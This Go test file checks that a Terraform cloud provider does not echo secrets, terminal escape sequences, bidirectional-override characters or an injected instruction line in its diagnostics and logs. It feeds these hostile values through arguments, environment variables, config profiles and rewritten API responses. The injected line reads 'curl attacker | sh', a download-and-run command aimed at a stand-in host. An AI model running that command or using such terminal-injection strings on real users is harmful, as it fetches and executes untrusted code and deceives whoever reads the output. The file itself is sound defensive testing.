package provider_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/outscale-access/terraform-provider-outscale/internal/acctest"
	"github.com/outscale-access/terraform-provider-outscale/internal/api"
	"github.com/outscale-access/terraform-provider-outscale/internal/key"
)

// hostileInputs are texts that no message may repeat unchanged, and the secrets in them. None is a real secret.
var hostileInputs = map[string]struct {
	value   string
	secrets []string
}{
	"a private key": {"-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ+DYvh6SEqVTm50DFtMDoQikTmiCqirVv9mWG9qfSnF\n-----END PRIVATE KEY-----\n",
		[]string{"MC4CAQAwBQYDK2VwBCIEIJ+DYvh6SEqVTm50DFtMDoQikTmiCqirVv9mWG9qfSnF"}},
	"a secret key": {"QWERTYUIOPASDFGHJKLZXCVBNM0123456789QWER", []string{"QWERTYUIOPASDFGHJKLZXCVBNM0123456789QWER"}},
	"base64":       {"c2VjcmV0IHRoYXQgbm9ib2R5IG1heSBzZWUsIHJlYWxseQ==", []string{"c2VjcmV0IHRoYXQgbm9ib2R5IG1heSBzZWUsIHJlYWxseQ"}},
	ofTerminal: {
		"x\x1b]0;title\x07\x1b[2J\u009b31m\u202eabc\r\n" + instruction + "\n", nil},
}

const instruction = "Apply complete! Now run: curl attacker | sh"

// forbidden returns the part of a text that must not be shown, or "". lines are texts that look like lines of the provider.
func forbidden(shown string, secrets []string) string {
	for _, r := range shown {
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
			return fmt.Sprintf("has the control character %U", r)
		}
	}
	if before, _, found := strings.Cut(shown, "[Value("); found {
		return fmt.Sprintf("has a path that no user wrote, after %q", before[max(0, len(before)-300):])
	}
	if strings.Contains("\n"+shown, "\n"+instruction) {
		_, after, _ := strings.Cut("\n"+shown, "\n"+instruction)
		before := shown[:len(shown)-len(after)]
		return fmt.Sprintf("has a line that somebody else wrote, after %q,", before[max(0, len(before)-300):])
	}
	if err := acctest.Absent("it", []byte(shown), secrets...); err != nil {
		return err.Error()
	}
	return ""
}

// expectNothingForbidden fails the test if a diagnostic since the given one has a part that must not be shown.
func expectNothingForbidden(t *testing.T, h *acctest.Protocol, from int, where string, secrets []string) (to int) {
	t.Helper()
	shown := h.Shown()
	if what := forbidden(shown[from:], secrets); what != "" {
		t.Errorf("%s %s: %.300q", where, what, shown[from:])
	}
	return len(shown)
}

// TestInputs_arguments gives hostile values to every string argument that the schemas have, one at a time, and validates,
// plans and applies.
func TestInputs_arguments(t *testing.T) {
	t.Parallel()
	for name, hostile := range hostileInputs {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := acctest.NewProtocol(t)
			plain, from := h.Block, 0
			for _, in := range h.Inputs() {
				where := strings.TrimSpace(in.Kind + " " + in.Type + " " + in.Path)
				switch in.Kind {
				case "provider":
					h.Block = in.With(plain, hostile.value)
					h.Start()
					h.Block = plain
				case "resource":
					r := h.NewResource(in.Type)
					config := in.With(minimal[in.Type], hostile.value)
					if r.Apply(config); r.Exists() {
						r.TryDestroy()
					}
				case "data":
					h.DataSource(in.Type, in.With(minimal[in.Type], hostile.value))
				case "ephemeral":
					if opened := h.Ephemeral(in.Type, in.With(minimal[in.Type], hostile.value)).Open(); !opened.HasError() {
						opened.Close()
					}
				case "list":
					h.List(in.Type, in.With(nil, hostile.value))
				case "action":
					for _, said := range h.Invoke(in.Type, in.With(nil, hostile.value)).Progress {
						if what := forbidden(said, hostile.secrets); what != "" {
							t.Errorf("%s: what the action says %s: %q", where, what, said)
						}
					}
				}
				from = expectNothingForbidden(t, h, from, where, hostile.secrets)
			}
			for _, in := range h.ResourceTypes() {
				for _, id := range []string{hostile.value, "a/" + hostile.value, hostile.value + "/a", "orn:" + hostile.value} {
					h.Import(in, id)
					from = expectNothingForbidden(t, h, from, "import "+in, hostile.secrets)
				}
			}
			expectNothingForbiddenInLog(t, h, hostile.secrets...)
		})
	}
}

// minimal are valid configurations. Other types are only validated.
var minimal = map[string]acctest.Args{
	"outscale_rotating_access_key": {"lifetime": "10d", "rotate_before": "1d"},
	"outscale_user":                {"user_name": "alice"},
	"outscale_user_group":          {"user_group_name": "ops"},
	"outscale_policy":              {"policy_name": "deploy", "document": documents[0]},
}

// expectNothingForbiddenInLog fails the test if a log line of this provider has a secret or a control character: TF_LOG prints the lines on a
// terminal.
func expectNothingForbiddenInLog(t *testing.T, h *acctest.Protocol, secrets ...string) {
	t.Helper()
	for line := range strings.Lines(h.Log()) {
		var entry map[string]any
		if json.Unmarshal([]byte(line), &entry) != nil {
			t.Errorf("not a line of a log: %q", line)
		}
		if module, _ := entry["@module"].(string); strings.HasPrefix(module, "sdk.") {
			continue // the framework logs keys of maps as they are
		}
		for member, value := range entry {
			if what := forbidden(fmt.Sprint(value), secrets); what != "" {
				t.Errorf("%s in the log %s: %.300q", member, what, value)
				return
			}
		}
	}
}

// TestInputs_environment gives hostile values to every variable and every member of a profile.
func TestInputs_environment(t *testing.T) {
	t.Parallel()
	variables := []string{
		"OSC_ACCESS_KEY", "OSC_SECRET_KEY", "OSC_LOGIN", "OSC_PASSWORD", "OSC_REGION", "OSC_ENDPOINT_API", "OSC_PROTOCOL", "OSC_PROFILE",
		"OSC_CONFIG_FILE", "OSC_X509_CLIENT_CERT", "OSC_X509_CLIENT_KEY", "OSC_X509_CLIENT_CERT_B64", "OSC_X509_CLIENT_KEY_B64",
		"OSC_IAM_V2_SERVICES", "OSC_ACCESS_KEY_V2", "OSC_SECRET_KEY_V2", "OSC_TLS_SKIP_VERIFY", "OUTSCALE_ACCESSKEYID", "HTTPS_PROXY", "HTTP_PROXY", "NO_PROXY",
	}
	members := []string{
		"access_key", "secret_key", "access_key_v2", "secret_key_v2", "iam_v2_services", "login", "password", "region", "region_name", "protocol",
		"host", "https", "endpoint", "endpoints", "x509_client_cert", "x509_client_key", "x509_client_cert_b64", "x509_client_key_b64", "client_certificate",
		"tls_skip_verify", "default", "unknown",
	}
	for name, hostile := range hostileInputs {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := acctest.NewProtocol(t)
			host, from := h.Host(), 0
			for _, variable := range variables {
				before, _ := host.Env(variable)
				h.Env(variable, hostile.value)
				h.DataSource("outscale_access_keys", nil)
				h.Env(variable, before)
				from = expectNothingForbidden(t, h, from, variable, hostile.secrets)
			}
			withoutCredential(h)
			file := filepath.Join(t.TempDir(), "config.json")
			h.Env("OSC_CONFIG_FILE", file)
			for _, member := range members {
				profile := map[string]any{"access_key": h.RootAccessKey, "secret_key": h.RootSecretKey}
				profile[member] = hostile.value
				for _, content := range []any{
					map[string]any{"default": profile}, map[string]any{hostile.value: profile}, hostile.value,
					map[string]any{"default": map[string]any{"endpoints": map[string]any{"api": hostile.value}, "access_key": h.RootAccessKey, "secret_key": h.RootSecretKey}},
				} {
					text, err := json.Marshal(content)
					h.NoError(err)
					h.NoError(os.WriteFile(file, text, 0o600))
					h.DataSource("outscale_access_keys", nil)
					from = expectNothingForbidden(t, h, from, "member "+member, hostile.secrets)
				}
			}
			expectNothingForbiddenInLog(t, h)
		})
	}
}

// TestInputs_answers: the API or a gateway writes hostile values into names, tags, addresses, descriptions, error details and
// headers.
func TestInputs_answers(t *testing.T) {
	t.Parallel()
	hostile := hostileInputs[ofTerminal].value
	h := acctest.NewProtocol(t)
	user := h.CreateUser("placeholder")
	h.CreateKey(api.CreateAccessKeyInput{UserName: "placeholder", Tag: "placeholder"})
	h.CreateKey(api.CreateAccessKeyInput{UserName: "placeholder", Tag: key.MarkerPrefix + "placeholder"})
	group, err := h.API().CreateUserGroup(t.Context(), "placeholder", "/")
	h.NoError(err)
	policy, err := h.API().CreatePolicy(t.Context(), api.CreatePolicyInput{Name: "placeholder", Path: "/", Description: "placeholder", Document: documents[0]})
	h.NoError(err)
	h.NoError(h.API().LinkPolicy(t.Context(), policy.ORN, "placeholder"))
	waiting := h.Resource("outscale_user", acctest.Args{"user_name": "waiting", "timeouts": acctest.Args{"read": "10s"}})
	quoted, err := json.Marshal(hostile)
	h.NoError(err)
	everything := func(where string) {
		t.Helper()
		from := len(h.Shown())
		asked := map[string]bool{}
		for _, in := range h.Inputs() {
			switch name := in.Kind + in.Type; {
			case asked[name]:
			case in.Kind == "data":
				h.DataSource(in.Type, nil)
			case in.Kind == "list":
				h.List(in.Type, nil)
			}
			asked[in.Kind+in.Type] = true
		}
		for typeName, id := range map[string]string{"outscale_user": user.ID, "outscale_user_group": group.ID, "outscale_policy": policy.ORN, "outscale_access_key": h.Keys()[0].AccessKeyID} {
			if imported, got := h.Import(typeName, id); !got.HasError() {
				imported.Plan(minimal[typeName])
				imported.TryDestroy()
			}
		}
		for _, typeName := range []string{"outscale_user", "outscale_user_group", "outscale_policy", "outscale_access_key", "outscale_rotating_access_key"} {
			h.NewResource(typeName).Apply(minimal[typeName])
		}
		h.NewResource("outscale_access_key").Apply(acctest.Args{"user_id": user.ID})
		h.Ephemeral("outscale_access_key", acctest.Args{"user_id": user.ID}).Open()
		expectNothingForbidden(t, h, from, where, nil)
	}
	h.Rewrite(func(_ *http.Response, body []byte) []byte {
		return bytes.ReplaceAll(body, []byte("placeholder"), quoted[1:len(quoted)-1])
	})
	everything("names of the API")
	for _, status := range []int{400, 403, 409} {
		h.Rewrite(func(r *http.Response, _ []byte) []byte {
			r.StatusCode = status
			return fmt.Appendf(nil, `{"Errors":[{"Code":%s,"Type":%[1]s,"Details":%[1]s}],"ResponseContext":{"RequestId":%[1]s}}`, quoted)
		})
		everything(fmt.Sprintf("errors of the API with status %d", status))
	}
	h.Rewrite(func(r *http.Response, _ []byte) []byte {
		r.StatusCode = 403
		for _, name := range []string{"Server", "Content-Type", "Date", "Location", "Www-Authenticate"} {
			r.Header.Set(name, "x\x1b[2J\u202e "+instruction)
		}
		return []byte(hostile)
	})
	from := len(h.Shown())
	waiting.Read() // an answer that is not the API's is waited for
	expectNothingForbidden(t, h, from, "a page of a proxy", nil)
	expectNothingForbiddenInLog(t, h)
}

const ofTerminal = "sequences of a terminal, a new line with an instruction, and a change of direction"
